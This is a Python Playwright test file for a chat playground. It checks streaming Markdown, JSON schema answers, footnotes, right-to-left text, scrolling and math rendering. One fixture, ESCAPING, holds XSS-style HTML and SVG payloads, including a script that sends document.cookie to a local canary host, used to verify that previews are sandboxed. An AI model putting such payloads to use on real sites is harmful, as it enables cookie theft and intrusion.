"""What a reader sees of an answer while it comes and after: inline Markdown at once, JSON once,
Hebrew and Arabic from the right, the end of it in view and nothing over it."""

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from tests.browser.visitor import findings, too_wide
from tests.playground.conftest import Stage, Watched
from tests.playground.echo import HOLD

pytestmark = pytest.mark.browser

DONE = ".msg[data-role=assistant]:not([data-state=answering])"
BLOCKS = ".msg[data-role=assistant] [data-part=blocks]"
MIXED = """# כותרת

זהו משפט ארוך עם מילה English באמצע, ומספר 123, ו־`code(1)`.

- פריט **ראשון**
- An English item

| שם | ערך |
|---|---|
| אחד | 1 |

مرحبا بالعالم، هذا **نص** عربي.

```python
print("שלום")
```

An English paragraph.
"""


def ask(page: Page, stage: Stage, model: str, text: str) -> None:
    """Open an empty chat and send."""
    page.goto(f"{stage.playground}?m={model}")
    page.fill("#chat-text", text)
    page.locator("#chat-text").press("Enter")


WATCH = """() => {
  window.shown = [];
  const blocks = document.querySelector("#turns");
  new MutationObserver(() => {
    const last = [...document.querySelectorAll(".msg[data-role=assistant] [data-b]")].at(-1);
    if (last) window.shown.push(last.innerHTML);
  }).observe(blocks, { childList: true, characterData: true, subtree: true });
}"""


@pytest.mark.slow
def test_inline_marks_are_drawn_while_they_are_written(stage: Stage, bob: Watched) -> None:
    """No mark is ever seen, and what is drawn stays the same element."""
    page = bob.page
    page.goto(f"{stage.playground}?m={stage.echo_model(2, 5)}")
    page.evaluate(WATCH)
    link = "[the text](https://a.example/b)"
    page.fill("#chat-text", f"A **bold{HOLD} word** and `some{HOLD} code`, see {link}.")
    page.locator("#chat-text").press("Enter")
    strong = page.locator(f"{BLOCKS} strong")
    expect(strong).to_have_text("bold")
    first = strong.element_handle()
    stage.echo.release()
    expect(page.locator(f"{BLOCKS} code")).to_have_text("some")
    stage.echo.release()
    page.wait_for_selector(DONE)
    assert first.evaluate("(element) => element.isConnected && element.textContent") == "bold word"
    page_text: list[str] = page.evaluate("() => window.shown")
    texts = [re.sub("<[^>]*>", "", html) for html in page_text]
    assert not [text for text in texts if re.search(r"[*`\[\]()]", text)]
    expect(page.locator(f"{BLOCKS} a")).to_have_attribute("href", "https://a.example/b")
    bob.assert_calm()


@pytest.mark.slow
def test_a_structured_answer_is_shown_once_as_json(stage: Stage, bob: Watched) -> None:
    page = bob.page
    page.goto(f"{stage.playground}?m={stage.echo_model(2)}&panel=schema")
    page.fill("#set-schema", '{"type": "object", "properties": {"a": {"type": "integr"}}}')
    expect(page.locator("#schema-check")).to_contain_text("/properties/a/type")
    page.fill("#set-schema", '{"name": "x", "of": ["y"]}')
    page.get_by_role("button", name="From example JSON").click()
    expect(page.locator("#set-schema")).to_have_value(re.compile('"array"'))
    expect(page.locator("#schema-check")).to_contain_text("Valid")
    page.fill("#chat-text", f'{{"name": "*Nile*", {HOLD}"of": ["# Egypt", "_Sudan_"]}}')
    page.locator("#chat-text").press("Enter")
    code = page.locator(".msg[data-role=assistant] figure.code pre")
    expect(code).to_contain_text('{"name"')  # while it comes
    stage.echo.release()
    page.wait_for_selector(DONE)
    formatted = '{\n  "name": "*Nile*",\n  "of": [\n    "# Egypt",\n    "_Sudan_"\n  ]\n}'
    expect(page.locator(".verdict summary")).to_have_text("Matches the schema")
    assert code.inner_text().strip() == formatted
    assert page.locator(".msg[data-role=assistant]").inner_text().count("Egypt") == 1
    page.reload()
    assert code.inner_text().strip() == formatted
    assert page.locator(".msg[data-role=assistant]").inner_text().count("Egypt") == 1
    bob.assert_calm()


@pytest.mark.slow
def test_footnotes_lead_to_their_notes(stage: Stage, bob: Watched) -> None:
    page = bob.page
    page.goto(f"{stage.playground}?m={stage.echo_model(9, 20)}")
    page.evaluate(WATCH)
    lines = "\n\n".join(str(number) for number in range(60))
    page.fill("#chat-text", f"Rain falls.[^1]\n\n{lines}\n\n[^1]: From **clouds**.\n[^2]: Or not.")
    page.locator("#chat-text").press("Enter")
    page.wait_for_selector(DONE)
    assert not [html for html in page.evaluate("() => window.shown") if "[^" in html]
    link = page.get_by_role("link", name="Footnote 1")
    note = page.locator(f"{BLOCKS} p", has_text="From clouds.")
    expect(note).to_have_text("1 From clouds.\n2 Or not.")
    page.locator("[data-log]").focus()
    page.keyboard.press("Home")  # a reader who leaves the end
    link.scroll_into_view_if_needed()
    expect(link).to_be_in_viewport()
    expect(note).not_to_be_in_viewport()
    link.press("Enter")
    expect(note).to_be_in_viewport()
    first = page.locator(".msg").first.element_handle()
    page.go_back()
    assert first.evaluate("(element) => element.isConnected")  # the same page
    page.set_viewport_size({"width": 360, "height": 740})
    page.reload()
    link.press("Enter")
    expect(note).to_be_in_viewport()
    assert too_wide(page) == ""
    assert findings(page) == []
    bob.assert_calm()


@pytest.mark.slow
def test_right_to_left_text_starts_at_the_right(stage: Stage, bob: Watched) -> None:
    page = bob.page
    ask(page, stage, stage.echo_model(50, 0), MIXED)
    page.wait_for_selector(DONE)
    runs = page.evaluate(
        """(blocks) => Object.fromEntries([...document.querySelectorAll(`${blocks} [data-b]>*`)]
          .map((one) => [one.textContent.trim().slice(0, 9), getComputedStyle(one).direction]))""",
        BLOCKS,
    )
    assert runs["כותרת"] == runs["זהו משפט "] == runs["مرحبا بال"] == "rtl"
    assert runs["An Englis"] == "ltr"
    for selector, direction in (("ul", "rtl"), ("table", "rtl"), ("pre", "ltr"), ("p>code", "ltr")):
        element = page.locator(f"{BLOCKS} {selector}").first
        assert element.evaluate("(element) => getComputedStyle(element).direction") == direction, (
            selector
        )
    # The marks of the items stand on the right, and an item of another script beside its own.
    first, second = page.locator(f"{BLOCKS} li").all()
    away = """(one, side) => {
      const text = document.createRange();
      text.selectNodeContents(one);
      return Math.abs(text.getBoundingClientRect()[side] - one.getBoundingClientRect()[side]);
    }"""
    assert first.evaluate(away, "right") < 2
    assert second.evaluate(away, "right") < 2
    bubble = page.locator(".msg[data-role=user] .prose")
    assert bubble.evaluate("(element) => getComputedStyle(element).direction") == "rtl"
    expect(page.locator(".chat-link[aria-current][dir=auto]").first).to_be_visible()
    page.fill("#chat-text", "שלום")
    composer = page.locator("#chat-text")
    assert composer.evaluate("(element) => getComputedStyle(element).direction") == "rtl"
    bob.assert_calm()


LONG = [f"Paragraph {n} of a long answer. " + "Words and more. " * 12 for n in range(90)]


def held_behind(*numbers: int) -> str:
    """The long answer, which waits behind those paragraphs."""
    return "\n\n".join(text + HOLD * (n in numbers) for n, text in enumerate(LONG))


AT_THE_END = """
() => (log => log.scrollHeight - log.scrollTop - log.clientHeight < 48)(
  document.querySelector("[data-log]"))
"""


@pytest.mark.slow
def test_returning_reader_sees_the_end_of_a_running_answer(stage: Stage, bob: Watched) -> None:
    page = bob.page
    ask(page, stage, stage.echo_model(60, 0), held_behind(40, 60, 75))
    expect(page.locator(f"{BLOCKS} [data-b='40']")).to_be_attached()
    page.reload()
    page.wait_for_function("() => document.querySelector('[data-log]').scrollTop > 0")
    stage.echo.release()
    expect(page.locator(f"{BLOCKS} [data-b='60']")).to_be_in_viewport()
    page.locator("[data-log]").hover()
    page.mouse.wheel(0, -2_000)
    expect(page.locator(f"{BLOCKS} [data-b='60']")).not_to_be_in_viewport()
    stage.echo.release()
    pill = page.locator("[data-to-end]")
    expect(pill).to_be_visible()
    log, box = page.locator("[data-log]").bounding_box(), pill.bounding_box()
    assert log
    assert box
    assert box["y"] >= log["y"] + log["height"]
    pill.click()
    expect(pill).to_be_hidden()
    stage.echo.release()
    page.wait_for_selector(DONE)
    expect(page.locator(f"{BLOCKS} [data-b='89']")).to_be_in_viewport()
    page.wait_for_function(AT_THE_END)
    bob.assert_calm()


@pytest.fixture
def canary() -> Iterator[ThreadingHTTPServer]:
    """A server elsewhere; `paths` is what was asked of it."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.server.paths.append(self.path)  # type: ignore[attr-defined]
            self.send_error(404)

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.paths = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


ESCAPING = """```html
<!doctype html><meta http-equiv="refresh" content="0;url={away}/refresh">
<link rel="stylesheet" href="{away}/style"><link rel="prefetch" href="{away}/prefetch">
<style>@import "{away}/import"; body {{ background: url({away}/background) }}
p {{ color: rgb(1, 2, 3) }}</style>
<script>parent.pwned = 1; document.title = "ran"; fetch("{away}/fetch?" + document.cookie)</script>
<img src="{away}/image" onerror="parent.pwned = 1"><iframe src="{away}/frame"></iframe>
<object data="{away}/object"></object><video src="{away}/video" autoplay></video>
<form action="{away}/form" method="post"><button id="send">Send</button></form>
<a id="link" href="{away}/link">Link</a><a id="top" target="_top" href="{away}/top">Top</a>
<p id="text">Drawn</p>
```

```svg
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="parent.pwned = 1">
<script>parent.pwned = 1</script><image href="{away}/svg" width="9" height="9"/>
<use href="{away}/use#a"/><circle id="circle" cx="4" cy="4" r="4"/></svg>
```
"""


def test_a_preview_reaches_nothing(stage: Stage, bob: Watched, canary: ThreadingHTTPServer) -> None:
    """P15: neither the page around it, nor its cookies, nor anybody elsewhere."""
    page = bob.page
    away = f"http://127.0.0.1:{canary.server_port}"
    ask(page, stage, stage.echo_model(500, 0), ESCAPING.format(away=away))
    page.wait_for_selector(DONE)
    html, svg = page.locator(f"{BLOCKS} [data-preview]").all()
    html.click()
    frame = page.frame_locator(f"{BLOCKS} iframe").first
    expect(frame.locator("#text")).to_have_css("color", "rgb(1, 2, 3)")  # its own style is its own
    for id in ("send", "top", "link"):
        frame.locator(f"#{id}").click()
    html.click()
    expect(page.locator(f"{BLOCKS} iframe")).to_have_count(0)
    svg.click()
    expect(frame.locator("#circle")).to_be_visible()
    (inside,) = [frame for frame in page.frames if frame != page.main_frame]
    assert inside.evaluate("origin") == "null"
    assert page.evaluate("window.pwned") is None
    assert page.url.startswith(stage.hub.url)
    with page.expect_response("**/preview/0/0") as preview:
        page.reload()
        page.locator(f"{BLOCKS} [data-preview]").first.click()
    policy = preview.value.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none';")
    assert canary.paths == []  # type: ignore[attr-defined]


def test_a_formula_has_its_font_and_fractions_to_read(stage: Stage, bob: Watched) -> None:
    page = bob.page
    ask(page, stage, stage.echo_model(), r"In a line $\frac{a}{b}$ and $x^2$.")
    page.wait_for_selector(DONE)
    numerator, index = page.locator(".prose mfrac > *").first, page.locator(".prose msup > *")
    expect(numerator).to_have_css("font-size", "13.125px")
    page.wait_for_function("() => document.fonts.check('16px \"Noto Sans Math\"', 'a')")
    base, raised = (index.nth(number).bounding_box() for number in range(2))
    assert base
    assert raised
    # It stands at the shoulder of its letter, and does not float above it.
    assert base["y"] < raised["y"] + raised["height"] < base["y"] + base["height"]
    bob.assert_calm()
